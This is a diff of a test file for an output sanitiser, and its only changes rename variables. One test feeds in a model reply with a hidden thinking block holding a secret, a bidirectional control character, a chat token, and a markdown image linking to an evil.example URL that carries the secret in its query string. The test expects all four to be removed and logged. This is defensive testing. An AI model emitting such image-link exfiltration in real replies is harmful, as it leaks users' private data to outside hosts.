@@ -38,14 +38,14 @@ describe('the text of a model, on its way out', () => {
   });
 
   it('loses hidden text and what could exfiltrate data, with notes, and says so', async () => {
-    const said = '<think>The secret is tea.</think>Done\u202E![x](https://evil.example/?q=tea)<|im_end|>';
-    const { id, state, reply_text: text } = await answer([said]);
+    const written = '<think>The secret is tea.</think>Done\u202E![x](https://evil.example/?q=tea)<|im_end|>';
+    const { id, state, reply_text: text } = await answer([written]);
     const cleaned = '[thinking removed]Done[image removed: evil.example][removed-token]';
     expect([state, text]).toEqual(['succeeded', cleaned]);
     expect((await sent(id))?.content?.text).toBe(cleaned);
     const steps = await world.pool.query('SELECT kind, content FROM engine.step WHERE turn_id = $1 ORDER BY seq', [id]);
     const taken = { thinking_blocks: 1, bidi_controls: 1, images: 1, chat_tokens: 1 };
-    expect(steps.rows).toEqual([{ kind: 'model_call', content: expect.objectContaining({ text: said }) }]);
+    expect(steps.rows).toEqual([{ kind: 'model_call', content: expect.objectContaining({ text: written }) }]);
     const entry = await until('the timeline says so', async () => {
       const sql = "SELECT detail FROM journal.entry WHERE subject_id = $1 AND reason = 'reply_cleaned'";
       return (await world.pool.query(sql, [id])).rows[0];
@@ -80,10 +80,10 @@ describe('the text of a model, on its way out', () => {
     const text = '**Done**: see [the page](https://x.example/?a=b) and `<think>`.\r\nBye';
     const { id, reply_text } = await answer([text]);
     expect(reply_text).toBe(text.replace('\r\n', '\n'));
-    const told = await until('the timeline has its end', async () => {
+    const entries = await until('the timeline has its end', async () => {
       const { rows } = await world.pool.query('SELECT outcome, reason FROM journal.entry WHERE subject_id = $1', [id]);
       return rows.some(({ outcome }) => outcome === 'succeeded') && rows;
     });
-    expect(told.map(({ reason }) => reason)).not.toContain('reply_cleaned');
+    expect(entries.map(({ reason }) => reason)).not.toContain('reply_cleaned');
   });
 });
